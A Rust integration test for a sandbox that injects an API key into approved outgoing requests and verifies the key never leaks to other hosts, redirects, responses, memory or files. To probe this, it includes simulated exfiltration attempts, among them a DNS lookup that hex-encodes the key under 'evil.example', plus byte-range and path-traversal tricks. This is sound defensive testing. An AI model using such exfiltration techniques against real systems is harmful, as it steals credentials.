//! A key that is put into requests goes to the host, path and method that it is for, in the place of whatever the
//! command wrote there, and to nobody else: no other host, no other path, not where a redirect leads, no host
//! whose certificate this one does not trust. It is looked for in every process inside, its memory, its files, in
//! what the host says back and in all that sandboxd says and writes, and is not there.

use anyhow::{Context as _, Result, ensure};
use sandboxd_integration::hosts::Serving;
use sandboxd_integration::search::Search;
use sandboxd_integration::world::{IP, World};
use sandboxd_integration::{Case, Inside, Need, Outside, Run, Sandbox};
use serde_json::Value;
use std::fs;
use std::io::{BufRead as _, BufReader};
use std::net::Ipv4Addr;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

const SOMEWHERE: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 7);
/// Whoever is here has a certificate of an authority that nobody trusts.
const STRANGE: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 8);
/// With a character that a query cannot have as it is.
const KEY: &str = "sk-hunter2-0123456789/abcdefgh";
const ESCAPED: &str = "sk-hunter2-0123456789%2Fabcdefgh";
/// In base64, after `me:`.
const BASIC: &str = "c2staHVudGVyMi0wMTIzNDU2Nzg5L2FiY2RlZmdo";

pub(crate) const CASE: Case = Case {
    rows: &["N17"],
    needs: &[
        Need::Program(IP),
        Need::Program("/usr/bin/openssl"),
        Need::Program("/usr/bin/curl"),
        Need::Program("/usr/bin/wget"),
        Need::Program("/usr/bin/node"),
        Need::Program("/usr/bin/python3"),
    ],
    seconds: 240,
    outside,
    probes: &[("look", look)],
    ..Case::NEW
};

/// Each, what it does, and what it is told of the key; all of them are answered with `welcome`.
const PROGRAMS: [(&str, &str, &str); 10] = [
    ("curl", "curl -sSf https://api.example/v1/tidings", "Bearer ****"),
    (
        "curl with a key of its own",
        "curl -sSf -H 'Authorization: Bearer mine' -H 'AUTHORIZATION: twice' https://api.example/v1/tidings",
        "Bearer ****",
    ),
    (
        "wget",
        "wget -qO- --ca-certificate=\"$SSL_CERT_FILE\" https://api.example/v1/tidings",
        "Bearer ****",
    ),
    (
        "Python",
        "python3 -c 'import urllib.request as r; print(r.urlopen(\"https://api.example/v1/tidings\").read())'",
        "Bearer ****",
    ),
    (
        "Python with a key of its own",
        "python3 -c 'import urllib.request as r; print(r.urlopen(r.Request(\"https://api.example/v1/tidings\", b\"{}\", {\"authorization\": \"Bearer x\"})).read())'",
        "Bearer ****",
    ),
    (
        "Node",
        "node -e 'fetch(\"https://api.example/v1/tidings\").then(r => r.text()).then(console.log)'",
        "Bearer ****",
    ),
    (
        "Node with a key of its own",
        "node -e 'fetch(\"https://api.example/v1/tidings\", {headers: {authorization: \"Bearer x\"}}).then(r => r.text()).then(console.log)'",
        "Bearer ****",
    ),
    ("a query", "curl -sSf 'https://query.example/v1/tidings?a=1&%6Bey=mine'", "?a=1&key=****"),
    (
        "a query of any path",
        "curl -sSf 'https://query.example/v1/a%2Fb?%6Bey=mine'",
        "%2Fb?key=****",
    ),
    ("a password", "curl -sSf -u mine:mine https://git.example/v1/tidings", "****"),
];

/// What does not get it, and the path that is asked for all the same.
const NOT_THIS: [(&str, &str, &str); 5] = [
    ("another host", "curl -sS https://other.example/v1/tidings", "/v1/tidings"),
    ("another path", "curl -sS https://api.example/v2/tidings", "/v2/tidings"),
    (
        "a path that leads to another",
        "curl -sS --path-as-is https://api.example/v1/../v2",
        "/v1/../v2",
    ),
    ("another method", "curl -sS -X DELETE https://query.example/v1/tidings", "/v1/tidings"),
    ("a redirect", "curl -sSL https://api.example/v1/away", "/v1/tidings"),
];

/// Where the key is said of a path that it is not put into, however that is asked for.
const SAYS_IT: [(&str, &str); 3] = [
    ("in whole", "curl -sS https://api.example/v2/key"),
    ("compressed", "curl -sS --compressed https://api.example/v2/key"),
    (
        "in parts",
        "for part in 0-20 21-99; do for field in Range Request-Range; do \
         curl -sS -H \"$field: bytes=$part\" https://api.example/v2/key; done; done",
    ),
];

fn outside(outside: &Outside) -> Result<()> {
    let here = ["api", "other", "query", "git", "unnamed"].map(|name| (name, SOMEWHERE));
    let all: Vec<(String, Ipv4Addr)> = here
        .into_iter()
        .chain([("strange", STRANGE)])
        .map(|(name, address)| (format!("{name}.example"), address))
        .collect();
    let all: Vec<_> = all.iter().map(|(name, address)| (name.as_str(), *address)).collect();
    let mut world = World::enter(outside, &all)?;
    let hosts = Hosts::begin(
        outside.dir().join("hosts"),
        SOMEWHERE,
        &["api.example", "other.example", "query.example", "git.example"],
    )?;
    let strange = Hosts::begin(outside.dir().join("strange"), STRANGE, &["strange.example"])?;
    world.trust(outside, &hosts.folder.join("ca.pem"))?;
    let workspace = outside.workspace()?;
    // What the search has to find.
    outside.file("ws/answer", "authorization: Bearer ****")?;
    let key = outside.dir().join("key");
    fs::write(&key, format!("{KEY}\n"))?;
    fs::set_permissions(&key, fs::Permissions::from_mode(0o400))?;
    let profile = profile(&key);
    let sandbox = || outside.sandbox(&profile).cwd(&workspace);
    let says = |line: &str| sandbox().command(&["sh", "-c", line]).run();
    for (name, line, told) in PROGRAMS {
        let run = says(line)?;
        run.exited(0).with_context(|| name)?;
        is_welcome(&run, told).with_context(|| name)?;
    }
    for asked in hosts.asked()? {
        ensure!(asked.keys == 1 && asked.authorization <= 1, "asked with {asked:?}");
        for own in ["mine", "twice", "Bearer x"] {
            ensure!(!asked.line.contains(own), "what the program put there arrived: {asked:?}");
        }
    }
    for (name, line, path) in NOT_THIS {
        hosts.forget()?;
        let run = says(line)?;
        run.exited(0).with_context(|| name)?;
        ensure!(run.stdout.contains("who are you?"), "{name} got {:?}, {}", run.stdout, run.stderr);
        let last = hosts.asked()?.pop().context("nobody asked")?;
        ensure!(last.path == path, "{name} asked for {last:?}");
        ensure!(last.keys == 0, "{name} got the key: {last:?}");
    }
    is_said_to_nobody(&says)?;
    for name in ["unnamed", "strange"] {
        hosts.forget()?;
        let run = says(&format!(
            "curl -sS -o /dev/null -w '%{{http_code}}' https://{name}.example/v1/x"
        ))?;
        ensure!(run.stdout == "502", "{name} answered {}, {}", run.stdout, run.stderr);
        let asked = [hosts.asked()?, strange.asked()?].concat();
        ensure!(asked.is_empty(), "{name} was asked: {asked:?}");
    }
    is_not_inside(&sandbox)
}

/// Where it is not put in, it is covered all the same.
fn is_said_to_nobody(says: &dyn Fn(&str) -> Result<Run>) -> Result<()> {
    for (name, line) in SAYS_IT {
        let run = says(line)?;
        run.exited(0).with_context(|| name)?;
        is_welcome(&run, "welcome ****").with_context(|| name)?;
        ensure!(!run.stdout.contains("hunter2"), "{name}, it was told {}", run.stdout);
    }
    Ok(())
}

/// It is answered, and the key is covered in what it is told.
fn is_welcome(run: &Run, told: &str) -> Result<()> {
    let said = format!("{}{}", run.stdout, run.stderr);
    ensure!(run.stdout.contains("welcome") && said.contains(told), "it got {said}");
    for key in [KEY, ESCAPED, BASIC] {
        ensure!(!said.contains(key), "it was told: {said}");
    }
    Ok(())
}

fn profile(key: &Path) -> String {
    let near = ["api", "other", "query", "git", "unnamed", "strange"]
        .map(|name| format!("{{ to = \"{name}.example:443\", within = [\"203.0.113.0/24\"] }}"));
    let header = "header = \"Authorization\", format = \"Bearer {}\"";
    format!(
        "extends = [\"builtin:coding-agent\"]\n[network]\nmode = \"egress\"\negress = [{}]\n\
         [secrets.model]\nfrom = \"file:{}\"\ninject = [\n\
         {{ host = \"api.example\", path = \"/v1/*\", {header} }},\n\
         {{ host = \"unnamed.example\", {header} }},\n\
         {{ host = \"strange.example\", {header} }},\n\
         {{ host = \"query.example\", method = \"GET\", query = \"key\" }},\n\
         {{ host = \"git.example\", basic = \"me\" }},\n]\n",
        near.join(", "),
        key.display(),
    )
}

/// Neither while it is used, nor in what is left.
fn is_not_inside<'a>(sandbox: &dyn Fn() -> Sandbox<'a>) -> Result<()> {
    let run = sandbox().probe("look", &[]).run()?;
    run.ran()?;
    ensure!(run.fact("answered")?.contains("authorization: Bearer ****"), "nothing came back");
    for fact in ["answered", "found"] {
        ensure!(!run.fact(fact)?.contains("hunter2"), "{fact}: {}", run.fact(fact)?);
    }
    ensure!(run.fact("found")?.is_empty(), "found in {}", run.fact("found")?);
    let count = |fact| -> Result<u32> { Ok(run.fact(fact)?.parse()?) };
    ensure!(count("files")? > 20, "hardly any file was searched");
    ensure!(count("memories")? > 0, "no memory was searched");
    for place in ["/mem", "/ws/answer"] {
        ensure!(run.fact("answers")?.contains(place), "what is in {place} is not found");
    }
    ensure!(run.fact("trusted")?.contains("BEGIN CERTIFICATE"), "nobody is trusted inside");
    let receipt = fs::read_to_string(run.folder().join("receipt"))?;
    ensure!(receipt.contains("model") && !receipt.contains("hunter2"), "{receipt}");
    let plan = sandbox().verb("plan").option("--json");
    let plan = plan.command(&["/bin/true"]).run()?;
    plan.exited(0)?;
    ensure!(plan.stdout.contains("authorization") && !plan.stdout.contains("hunter2"), "the plan");
    // A name that has it, in hexadecimal: what is said of it at the end has not.
    let hex: String = KEY.bytes().map(|byte| format!("{byte:02x}")).collect();
    let asks = format!("getent hosts {hex}.evil.example || true");
    let run = sandbox().command(&["sh", "-c", &asks]).run()?;
    run.exited(0)?;
    ensure!(run.stderr.contains("«secret:model»"), "{}", run.stderr);
    let grep = Command::new("/usr/bin/grep")
        .args(["-rlsF", "hunter2-0123456789", "/run/sandboxd", "/dev/shm", "/var/lib/sandboxd"])
        .output()?;
    let found = String::from_utf8(grep.stdout)?;
    ensure!(found.is_empty(), "{found} has it");
    Ok(())
}

/// What a host was asked.
#[derive(Debug, Clone)]
struct Asked {
    line: String,
    path: String,
    /// How often the key was in it.
    keys: usize,
    /// Fields of the place that it goes to.
    authorization: usize,
}

/// The hosts at an address.
struct Hosts {
    _serving: Serving,
    folder: PathBuf,
}

impl Hosts {
    fn begin(folder: PathBuf, address: Ipv4Addr, names: &[&str]) -> Result<Self> {
        let address = address.to_string();
        let own = [folder.as_os_str(), address.as_ref(), KEY.as_ref()];
        let words: Vec<_> = own.into_iter().chain(names.iter().map(AsRef::as_ref)).collect();
        let serving = Serving::begin("wants_a_key.py", &words)?.ready()?;
        let hosts = Self { _serving: serving, folder };
        hosts.forget()?;
        Ok(hosts)
    }

    fn forget(&self) -> Result<()> {
        Ok(fs::write(self.folder.join("asked"), "")?)
    }

    fn asked(&self) -> Result<Vec<Asked>> {
        let text = fs::read_to_string(self.folder.join("asked"))?;
        let asked = text.lines().map(|line| {
            let asked: Value = serde_json::from_str(line)?;
            let head = asked.get("head").and_then(Value::as_array).context("no head")?;
            let is_it =
                |field: &&Value| field.get(0).and_then(Value::as_str) == Some("authorization");
            let path = asked.get("path").and_then(Value::as_str).context("no path")?;
            Ok(Asked {
                path: path.to_owned(),
                keys: [KEY, ESCAPED, BASIC].iter().map(|key| line.matches(key).count()).sum(),
                authorization: head.iter().filter(is_it).count(),
                line: line.to_owned(),
            })
        });
        asked.collect()
    }
}

/// Uses the key, has the host send back what it was asked with, and looks for it everywhere while the program
/// that got that lives.
fn look(inside: &Inside) -> Result<()> {
    let (mut client, answered) = client()?;
    inside.fact("answered", &answered);
    let mut search = Search {
        everywhere: vec![["hunt".into(), "er2-01234".into()]],
        in_files: vec![["PRIVATE".into(), " KEY-----".into()]],
        control: ["Bear".into(), "er ****".into()],
        ..Search::default()
    };
    search.all()?;
    drop(client.stdin.take());
    ensure!(client.wait()?.success(), "the client failed");
    inside.fact("found", &search.found.join(" "));
    inside.fact("answers", &search.controls.join(" "));
    inside.fact("files", &search.files.to_string());
    inside.fact("memories", &search.memories.to_string());
    inside.fact("trusted", &fs::read_to_string("/run/sandboxd/ca.pem")?.replace('\n', " "));
    Ok(())
}

/// A program that asked, has its answer, and lives until its input ends.
fn client() -> Result<(Child, String)> {
    const ASKS: &str = "import sys, urllib.request as r\n\
        got = r.urlopen('https://api.example/v1/tidings').read()\n\
        print(got, flush=True)\nsys.stdin.read()\n";
    let mut client = Command::new("python3")
        .args(["-c", ASKS])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .context("a client")?;
    let mut answered = String::new();
    BufReader::new(client.stdout.take().context("no output")?).read_line(&mut answered)?;
    Ok((client, answered))
}
